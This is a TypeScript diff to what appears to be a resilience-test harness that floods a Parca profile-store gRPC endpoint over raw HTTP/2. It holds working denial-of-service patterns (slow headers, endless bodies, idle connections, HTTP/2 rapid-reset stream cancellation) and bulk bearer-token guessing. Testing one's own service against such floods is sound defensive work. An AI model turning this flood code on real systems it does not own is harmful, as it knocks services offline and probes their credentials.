@@ -29,6 +29,9 @@ export interface Flood {
 export interface FloodResult { readonly attempts: number; readonly accepted: number; readonly openAtEnd: number }
 
 const BATCH = 100;
+/** An error code of HTTP/2. */
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+let guesses = 0;
 const STREAMS = 100;
 const PUSH_PATH = '/parca.profilestore.v1alpha1.ProfileStoreService/WriteRaw';
 
@@ -70,12 +73,13 @@ function attack(kind: FloodKind, localAddress: string, accepted: () => void): So
 function send(kind: FloodKind, socket: Socket): void {
   const post = [[':method', 'POST'], [':scheme', 'https'], [':authority', HOST], [':path', PUSH_PATH], ['content-type', 'application/grpc']] as const;
   const streams = Array.from({ length: STREAMS }, (_, index) => 2 * index + 1);
+  const writeAll = (frames: readonly Buffer[]): void => { socket.write(Buffer.concat([PREFACE, ...frames])); };
   switch (kind) {
     case 'idle TCP':
     case 'TLS without a request':
       break;
     case 'endless bodies':
-      socket.write(Buffer.concat([PREFACE, ...streams.map(stream => Buffer.concat([headersFrame(stream, post), frame(FRAME.data, 0, stream, Buffer.alloc(600))]))]));
+      writeAll(streams.flatMap(stream => [headersFrame(stream, post), frame(FRAME.data, 0, stream, Buffer.alloc(600))]));
       break;
     case 'slow headers': {
       socket.write(PREFACE);
@@ -86,10 +90,10 @@ function send(kind: FloodKind, socket: Socket): void {
       break;
     }
     case 'wrong tokens':
-      socket.write(Buffer.concat([PREFACE, ...streams.map(stream => headersFrame(stream, [...post, ['authorization', `Bearer guess-${stream}-${Math.random()}`]], true))]));
+      writeAll(streams.map(stream => headersFrame(stream, [...post, ['authorization', `Bearer wrong-guess-${guesses++}`]], true)));
       break;
     case 'rapid reset':
-      socket.write(Buffer.concat([PREFACE, ...streams.map(stream => Buffer.concat([headersFrame(stream, post), frame(FRAME.reset, 0, stream, Buffer.from([0, 0, 0, 8]))]))]));
+      writeAll(streams.flatMap(stream => [headersFrame(stream, post), frame(FRAME.reset, 0, stream, CANCEL)]));
       break;
   }
 }
